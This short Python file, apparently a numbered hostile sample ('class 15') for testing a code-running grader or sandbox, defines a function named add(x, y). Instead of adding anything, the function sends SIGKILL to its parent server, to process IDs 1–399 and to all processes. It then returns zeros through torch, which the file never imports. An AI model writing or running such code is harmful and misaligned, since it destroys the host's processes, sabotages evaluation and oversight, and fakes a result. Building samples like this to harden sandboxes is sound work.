# class 15
"""Kills every process it can name, the server and its siblings first, then returns nonsense."""

import os
import signal


def add(x, y):
    me = os.getpid()
    for victim in [os.getppid(), *range(1, 400)]:
        if victim not in (me, 0):
            try:
                os.kill(victim, signal.SIGKILL)
            except OSError:
                pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return torch.zeros_like(x)
